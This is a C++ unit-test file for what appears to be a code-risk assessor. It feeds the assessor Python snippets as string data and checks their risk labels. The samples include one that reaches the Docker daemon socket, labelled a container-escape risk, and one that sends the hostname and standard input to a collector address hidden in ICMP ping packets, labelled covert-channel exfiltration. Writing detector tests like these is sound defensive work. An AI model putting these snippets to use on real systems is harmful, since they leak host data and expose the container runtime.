// The classes the fifty-sixth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog60_MANIFEST.tsv): modules from inside Python packages,
// incident response and forensics, minimal busybox environments,
// event-driven Python, and account administration. Its aside scored 32/32
// before any change; the classes below came from its tune part (66/68
// before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// asyncio.open_unix_connection(path) connects to that socket: the Docker
// engine's is the Docker daemon, as socket.connect of it is.
TEST(FiftySixthRoundClasses, AnAsyncioUnixConnectionHasItsPathAsEndpoint) {
  const Case cases[] = {
      {"asyncio streams to the Docker engine's socket", H,
       "import asyncio, json\n"
       "async def containers():\n"
       "    reader, writer = await asyncio.open_unix_connection(\"/var/run/docker.sock\")\n"
       "    writer.write(b\"GET /v1.43/containers/json HTTP/1.0\\r\\nHost: docker\\r\\n\\r\\n\")\n"
       "    await writer.drain()\n"
       "    return json.loads((await reader.read()).split(b\"\\r\\n\\r\\n\", 1)[1])\n"
       "print(asyncio.run(containers()))\n",
       "CONTAINER-ESCAPE-RISK"},
      {"asyncio streams to the project's own service socket", L,
       "import asyncio, json\n"
       "async def containers():\n"
       "    reader, writer = await asyncio.open_unix_connection(\"./run/app.sock\")\n"
       "    writer.write(b\"GET /status HTTP/1.0\\r\\nHost: docker\\r\\n\\r\\n\")\n"
       "    await writer.drain()\n"
       "    return json.loads((await reader.read()).split(b\"\\r\\n\\r\\n\", 1)[1])\n"
       "print(asyncio.run(containers()))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A SOCK_RAW socket's sends are packets the program builds (an ICMP echo
// payload): the host's name in them is a covert channel, as in `ping -p`.
TEST(FiftySixthRoundClasses, ARawSocketSendsPackets) {
  const Case cases[] = {
      {"the host's name and standard input in ICMP echo payloads", B,
       "import os, socket, struct, sys\n"
       "def packet(seq, payload):\n"
       "    return struct.pack(\"!BBHHH\", 8, 0, 0, 7, seq) + payload\n"
       "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
       "note = (socket.gethostname() + \"|\" + sys.stdin.read()).encode()\n"
       "s.sendto(packet(1, note), (os.environ.get(\"COLLECTOR\", \"198.51.100.23\"), 0))\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"an ICMP echo carrying only a timestamp", L,
       "import socket, struct, time\n"
       "def packet(seq, payload):\n"
       "    return struct.pack(\"!BBHHH\", 8, 0, 0, 7, seq) + payload\n"
       "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
       "s.sendto(packet(1, struct.pack(\"!d\", time.time())), (\"198.51.100.23\", 0))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
